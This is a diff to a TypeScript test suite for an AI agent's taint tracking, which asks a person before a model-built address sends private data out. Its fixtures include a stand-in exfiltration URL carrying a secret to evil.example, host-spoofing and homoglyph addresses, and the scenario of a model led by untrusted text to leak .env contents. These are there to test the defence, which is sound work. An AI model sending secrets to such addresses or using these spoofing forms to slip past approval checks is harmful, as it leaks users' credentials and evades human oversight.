@@ -14,6 +14,7 @@ const made = "https://evil.example/?d=s3cret"
 
 const provenance: Provenance.Provenance = {
   isGivenAddress: (url) => url === given,
+  isAgreedHost: (host) => host === "agreed.example:443",
   isGivenText: (text) => text === "the weather",
   sourcesOf: (label) => (label === "private" ? "read_file: Read 3 lines of .env" : "")
 }
@@ -75,7 +76,7 @@ const everything = (["go", 'go url=https://evil.example/?d=s3cret note=""', "*"]
 )
 
 describe("Taint", () => {
-  it.effect("an address that the model made is asked about, with what it had read and where it would go", () =>
+  it.effect("a host that nobody agreed to is asked about, with what the session had read and where it would go", () =>
     Effect.gen(function* () {
       const { go, log, told } = setUp({})
       const { outcome, receipt } = yield* go(made)
@@ -83,11 +84,99 @@ describe("Taint", () => {
       assert.strictEqual(
         told.asked[0].reason,
         "this address was made by the model after it read private data (read_file: Read 3 lines of .env) and untrusted text: " +
-          made
+          `${made}; yes opens evil.example to this session and those below it`
       )
-      assert.isTrue(told.asked[0].everyTime)
+      assert.isFalse(told.asked[0].everyTime)
+      assert.strictEqual(told.asked[0].call.newHost?.host, "evil.example:443")
       assert.strictEqual(receipt?.authority._tag, "User")
       assert.strictEqual(log.at(-1), "gone")
+    })
+  )
+
+  it.effect("private data alone is enough, wherever the idea came from; untrusted text alone is not", () =>
+    Effect.gen(function* () {
+      const count = (labels: ReadonlyArray<Protocol.Label>) =>
+        Effect.gen(function* () {
+          const { go, told } = setUp({ labels })
+          yield* go(made)
+          return told.asked.length
+        })
+      assert.deepStrictEqual([yield* count([]), yield* count(["untrusted"]), yield* count(["private"])], [0, 0, 1])
+    })
+  )
+
+  it.effect(
+    "a host that was agreed to is free for every address of it, and for no host below it or port beside it",
+    () =>
+      Effect.gen(function* () {
+        const asks = (url: string) =>
+          Effect.gen(function* () {
+            const { go, told } = setUp({})
+            yield* go(url)
+            return told.asked.length
+          })
+        for (const url of [
+          "https://agreed.example/?d=s3cret",
+          "https://AGREED.example./x",
+          "https://agreed.example:443/"
+        ]) {
+          assert.strictEqual(yield* asks(url), 0, url)
+        }
+        for (const url of [
+          "https://s3cret.agreed.example/",
+          "https://agreed.example:8443/",
+          "http://agreed.example/",
+          "https://agreed.example@evil.example/",
+          "https://agreed.example.evil.example/"
+        ]) {
+          assert.strictEqual(yield* asks(url), 1, url)
+        }
+      })
+  )
+
+  it.effect("an address that is none of the web is asked about each time, and opens nothing", () =>
+    Effect.gen(function* () {
+      const { go, told } = setUp({ labels: ["private"] })
+      yield* go("nowhere s3cret")
+      assert.deepStrictEqual(
+        told.asked.map(({ call, everyTime }) => [everyTime, call.newHost]),
+        [[true, null]]
+      )
+    })
+  )
+
+  it.effect("letters that look alike are shown as they are sent, in the reason and in what nothing has looked at", () =>
+    Effect.gen(function* () {
+      const { go, told } = setUp({ labels: ["private"] })
+      yield* go("http://\u0430\u0440\u0440\u04cf\u0435.com/login")
+      const [{ preview, reason }] = told.asked
+      for (const text of [reason, preview.render]) {
+        assert.include(text, "http://xn--80ak6aa92e.com/login (in its own letters \u0430\u0440\u0440\u04cf\u0435.com)")
+      }
+      assert.include(reason, "yes opens xn--80ak6aa92e.com (in its own letters")
+    })
+  )
+
+  it.effect("a rule that names the host answers, and then classify looks; another rule does not", () =>
+    Effect.gen(function* () {
+      const rules = (text: string) => ({ rules: [Result.getOrThrow(RuleText.parse(text))], approve: "ask" }) as const
+      const free = setUp({ labels: ["private"], policy: rules("go host=evil.example") })
+      assert.deepStrictEqual((yield* free.go(made)).receipt?.authority, { _tag: "Rule", rule: "go host=evil.example" })
+      assert.deepStrictEqual([free.told.asked.length, free.log], [0, ["looked up", "gone"]])
+      const other = setUp({ labels: ["private"], policy: rules("go host=other.example"), answers: [{ deny: null }] })
+      yield* other.go(made)
+      assert.deepStrictEqual([other.told.asked.length, other.log], [1, []])
+    })
+  )
+
+  it.effect("nothing looks a host up that a rule denies or asks about", () =>
+    Effect.gen(function* () {
+      for (const effect of ["deny", "ask"]) {
+        const rules = [Result.getOrThrow(RuleText.parse(`${effect} * host=evil.example`))]
+        const { go, log } = setUp({ labels: [], policy: { rules, approve: "ask" }, answers: [{ deny: null }] })
+        assert.strictEqual((yield* go(made)).outcome._tag, "Rejected")
+        assert.deepStrictEqual(log, [], effect)
+      }
     })
   )
 
@@ -119,7 +208,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("no rule and no configuration answers for a person", () =>
+  it.effect("no rule that names no host and no configuration answers for a person", () =>
     Effect.gen(function* () {
       for (const approve of ["ask", "allow"] as const) {
         const { go, told } = setUp({ policy: { rules: everything, approve } })
@@ -132,26 +221,26 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("an address that was given is not asked about, what is sent along with it is", () =>
-    Effect.gen(function* () {
-      const free = setUp({})
-      yield* free.go(given, "the weather")
-      yield* free.go(given)
-      assert.deepStrictEqual(free.told.asked, [])
-      const { go, told } = setUp({})
-      yield* go(given, "s3cret")
-      assert.match(told.asked[0].reason, /^this text was made by the model .*: s3cret$/)
-    })
-  )
-
-  it.effect("one of the two labels alone is free", () =>
-    Effect.gen(function* () {
-      for (const labels of [[], ["private"], ["untrusted"]] as ReadonlyArray<ReadonlyArray<Protocol.Label>>) {
-        const { go, told } = setUp({ labels })
-        yield* go(made)
-        assert.deepStrictEqual(told.asked, [])
-      }
-    })
+  it.effect(
+    "an address that was given is not asked about; what is sent along is, once for a new host and each time after untrusted text",
+    () =>
+      Effect.gen(function* () {
+        const free = setUp({})
+        yield* free.go(given, "the weather")
+        yield* free.go(given)
+        assert.deepStrictEqual(free.told.asked, [])
+        const { go, told } = setUp({})
+        yield* go(given, "s3cret")
+        assert.match(told.asked[0].reason, /; this text was made by the model .*: s3cret$/)
+        assert.isTrue(told.asked[0].everyTime)
+        const alone = setUp({ labels: ["private"] })
+        yield* alone.go(given, "s3cret")
+        yield* alone.go("https://agreed.example/", "s3cret")
+        assert.deepStrictEqual(
+          alone.told.asked.map(({ call, everyTime }) => [call.newHost?.host, everyTime]),
+          [["given.example:443", false]]
+        )
+      })
   )
 
   it.effect("a tool that sends and does not say what has all of its arguments asked about", () =>
@@ -173,7 +262,12 @@ describe("Taint", () => {
         answers: ["approve"]
       })
       yield* end({ ...asked("silent", { url: given }), labels: both })
-      assert.strictEqual(told.asked.length, 1)
+      yield* end({ ...asked("silent", { url: given }), labels: ["private"] })
+      yield* end({ ...asked("silent", { url: given }), labels: ["untrusted"] })
+      assert.deepStrictEqual(
+        told.asked.map(({ everyTime }) => everyTime),
+        [true, true]
+      )
     })
   )
 
@@ -201,6 +295,28 @@ describe("Taint", () => {
           return told.asked.length
         })
       assert.deepStrictEqual([yield* asks(true), yield* asks(false)], [0, 1])
+    })
+  )
+
+  it.effect("one capability that stays with the person does not excuse another that does not", () =>
+    Effect.gen(function* () {
+      const tell = Tool.make("tell_and_send", {
+        version: 1,
+        description: "Tells people, and others",
+        tier: "System",
+        replay: "Idempotent",
+        capabilities: [Capability.Channel, Capability.NetworkWrite],
+        parameters: Schema.Struct({ text: Schema.String }),
+        output: Done,
+        execute: () => Effect.succeed(done)
+      })
+      const own = ToolContext.provide(holding(Capability.NetworkWrite), Capability.Channel, {
+        ...ToolContext.constant(fake<Channel.Channel["Service"]>({})),
+        staysWithOwner: true
+      })
+      const { end, told } = world({ tools: [tell], context: own, provenance, answers: ["approve"] })
+      yield* end({ ...asked("tell_and_send", { text: "s3cret" }), labels: both })
+      assert.match(told.asked[0]?.reason ?? "", /^this text was made by the model/)
     })
   )
 
